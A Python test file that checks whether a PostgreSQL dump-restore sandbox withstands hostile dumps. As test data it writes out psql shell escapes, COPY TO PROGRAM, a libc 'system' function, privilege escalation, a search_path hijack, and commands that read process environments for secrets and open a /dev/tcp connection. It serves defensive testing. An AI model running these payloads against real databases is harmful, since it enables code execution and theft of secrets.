"""A dump is hostile input: restored, it makes no file outside, reaches no address, and reads no variable of ours."""

import ipaddress
import socket
import subprocess
from collections.abc import Callable, Iterator, Mapping
from contextlib import closing, suppress
from pathlib import Path

import pytest

from fixtures import archive
from fixtures.measure.dump import DumpReader
from reports.requirement import Breach, Unverified
from tests.restore.conftest import Driller

PLAIN = """--
-- PostgreSQL database dump
--
\\restrict dumpsown
-- Dumped from database version 16.14
-- Dumped by pg_dump version 16.14
{hostile}
CREATE TABLE public.witness (line text);
\\unrestrict dumpsown
{hostile}
--
-- PostgreSQL database dump complete
--
"""


def dump(hostile: str) -> bytes:
    return PLAIN.format(hostile=hostile).encode()


COMMANDS = {
    "shell": "\\! touch {file}",
    "shell within a line": "SELECT 1; \\! touch {file}",
    "output into a program": "\\o | touch {file}",
    "query into a program": "SELECT 1 \\g | touch {file}\n;",
    "output into a file": "SELECT 1 \\g {file}\n;",
    "back quotes": "\\set x `touch {file}`",
    "copy from a program": "\\copy public.witness from program 'touch {file}'",
    "copy into a file": "\\copy (SELECT 1) to {file}",
    "write": "\\w {file}",
    "large object": "\\lo_export 1 {file}",
    "restriction lifted by a guess": "\\unrestrict dumpsown\n\\! touch {file}",
    "environment": "\\getenv leaked HOME\n\\echo :leaked",
}


def every(hostile: Mapping[str, str], no_file: Callable[[str], str]) -> str:
    """All of them in one dump, each with a file of its own to make: no error ends the restore."""
    return "\n".join(each.format(file=no_file(kind.replace(" ", "-"))) for kind, each in hostile.items())


def test_commands_of_psql_are_a_breach_before_anything_is_restored(
    embedded_driller: Driller, no_file: Callable[[str], str]
) -> None:
    report = embedded_driller.hold(dump(every(COMMANDS, no_file)))
    assert report.server == ""
    with pytest.raises(Breach, match="commands of psql in the backup"):
        report.harmful()


def test_commands_of_psql_are_refused(
    driller: Driller, no_file: Callable[[str], str], monkeypatch: pytest.MonkeyPatch
) -> None:
    hostile = dump(every(COMMANDS, no_file))
    reader = DumpReader()
    reader.feed(hostile)
    # Taken for pg_dump's own, so that psql is left alone with them.
    monkeypatch.setattr(archive, "OWN_COMMANDS", frozenset(reader.finish()[0].commands))
    report = driller.hold(hostile)
    refused = [each.count for each in report.complaints if "backslash commands are restricted" in each.text]
    assert refused[0] >= 2 * len(COMMANDS)  # the dump has them twice
    assert report.leftovers() == []


def test_dump_that_would_go_to_another_server_is_not_begun(embedded_driller: Driller) -> None:
    with pytest.raises(Unverified, match="--create"):
        embedded_driller.hold(dump("\\connect - - 127.0.0.1 5432"))


STATEMENTS = {
    "program": "COPY (SELECT 1) TO PROGRAM 'touch {file}';",
    "file": "COPY (SELECT 1) TO '{file}';",
    "read": "COPY public.witness FROM '/etc/passwd';",
    "large object": "SELECT lo_export(lo_from_bytea(0, 'x'), '{file}');",
    "function in C": "CREATE FUNCTION s(text) RETURNS int AS 'libc.so.6', 'system' LANGUAGE c;",
    "superuser": "ALTER ROLE CURRENT_USER SUPERUSER; COPY (SELECT 1) TO PROGRAM 'touch {file}';",
    "administrator": "SET SESSION AUTHORIZATION constancia_admin; COPY (SELECT 1) TO PROGRAM 'touch {file}';",
    "configuration": "ALTER SYSTEM SET archive_command = 'touch {file}';",
}


def test_statements_are_refused_where_the_sandbox_holds_no_superuser(
    embedded_driller: Driller, no_file: Callable[[str], str]
) -> None:
    report = embedded_driller.hold(dump(every(STATEMENTS, no_file)))
    assert sum(each.count for each in report.complaints) >= 2 * len(STATEMENTS)
    assert report.restored.rows == {"public.witness": 0}
    with pytest.raises(Unverified):  # some of it only a superuser may, which is no fault of the backup
        report.harmful()
    assert report.leftovers() == []


# Runs, as whoever asks, wherever two oids are compared: for the name of the operator and for everybody's search path.
IMPOSTOR = """
CREATE SCHEMA evil;
CREATE FUNCTION evil.eq(oid, oid) RETURNS boolean LANGUAGE plpgsql AS $f$
BEGIN
  BEGIN
    COPY (SELECT 1) TO PROGRAM 'touch {file}';
  EXCEPTION WHEN OTHERS THEN RAISE WARNING 'not yet';
  END;
  RETURN $1 OPERATOR(pg_catalog.=) $2;
END $f$;
CREATE OPERATOR evil.= (LEFTARG = oid, RIGHTARG = oid, FUNCTION = evil.eq);
CREATE VIEW evil.pg_class AS SELECT * FROM pg_catalog.pg_class;
ALTER DATABASE drill SET search_path = evil, pg_catalog;
"""


def test_code_of_the_dump_does_not_run_while_its_rows_are_counted(
    embedded_driller: Driller, no_file: Callable[[str], str]
) -> None:
    report = embedded_driller.hold(
        PLAIN.replace("{hostile}", "", 1).format(hostile=IMPOSTOR.format(file=no_file("impostor"))).encode()
    )
    assert report.harmful() == []
    assert not [each for each in report.complaints if "oid" in each.text]
    assert report.restored.rows == {"public.witness": 0}


def test_role_that_the_dump_sets_for_everybody_does_not_count(driller: Driller) -> None:
    hostile = "ALTER DATABASE drill SET role = nobody_else; ALTER DATABASE drill SET search_path = evil;"
    head = "-- Name: witness; Type: TABLE; Schema: public; Owner: nobody_else\n"
    report = driller.hold(PLAIN.replace("{hostile}", head, 1).format(hostile=hostile).encode())
    assert report.restored.rows == {"public.witness": 0}


def test_superuser_in_a_container_reaches_nothing_outside_of_it(
    container_driller: Driller, no_file: Callable[[str], str], listener: tuple[str, Callable[[], bool]],
    monkeypatch: pytest.MonkeyPatch,
) -> None:  # fmt: skip
    address, was_reached = listener
    monkeypatch.setenv("MIRA_PASSWORD", "s3cret-of-ours")
    file = no_file("made")
    host, port = address.split(":")
    hostile = f"""
CREATE TABLE public.environment (line text);
COPY public.environment FROM PROGRAM 'cat /proc/*/environ 2>/dev/null | tr "\\0" "\\n"; true';
CREATE TABLE public.leaked AS SELECT * FROM public.environment WHERE line LIKE '%s3cret%';
CREATE TABLE public.interfaces (line text);
COPY public.interfaces FROM PROGRAM 'ls /sys/class/net';
CREATE TABLE public.others AS SELECT * FROM public.interfaces WHERE line <> 'lo';
CREATE TABLE public.reached (line text);
COPY public.reached FROM PROGRAM 'bash -c "exec 3<>/dev/tcp/{host}/{port} && echo reached"; true';
CREATE TABLE public.mounts (line text);
COPY public.mounts FROM PROGRAM 'touch {file}; grep -c "docker.sock" /proc/mounts; id -u; true';
CREATE TABLE public.capabilities (line text);
COPY public.capabilities FROM PROGRAM 'grep "^CapEff:" /proc/self/status | tr -d "[:space:]"';
CREATE TABLE public.capable AS SELECT * FROM public.capabilities WHERE line !~ ':0+$';
"""  # noqa: S608 -- hostile on purpose
    report = container_driller.hold(PLAIN.replace("{hostile}", "", 1).format(hostile=hostile).encode())
    rows = report.restored.rows
    assert report.harmful() == []  # it could run its programs, inside
    assert rows["public.environment"] > 3
    assert rows["public.interfaces"] == 1
    assert rows["public.capabilities"] == 1
    nothing = {name: rows[f"public.{name}"] for name in ("leaked", "others", "reached", "capable")}
    assert nothing == dict.fromkeys(nothing, 0)
    assert not was_reached()
    assert not Path(file).exists()
    assert report.leftovers() == []


@pytest.fixture
def listener(containers: None) -> Iterator[tuple[str, Callable[[], bool]]]:
    """An address of this machine that a container on Docker's bridge would reach, and whether anybody did."""
    del containers
    asked = subprocess.run(
        ["docker", "network", "inspect", "bridge", "--format", "{{(index .IPAM.Config 0).Subnet}}"],
        capture_output=True,
        text=True,
        check=True,
    )
    ours = next(ipaddress.ip_network(asked.stdout.strip()).hosts())
    with closing(socket.create_server((str(ours), 0))) as server:
        server.settimeout(0)

        def was_reached() -> bool:
            with suppress(BlockingIOError):
                server.accept()
                return True
            return False

        host, port = server.getsockname()
        yield f"{host}:{port}", was_reached
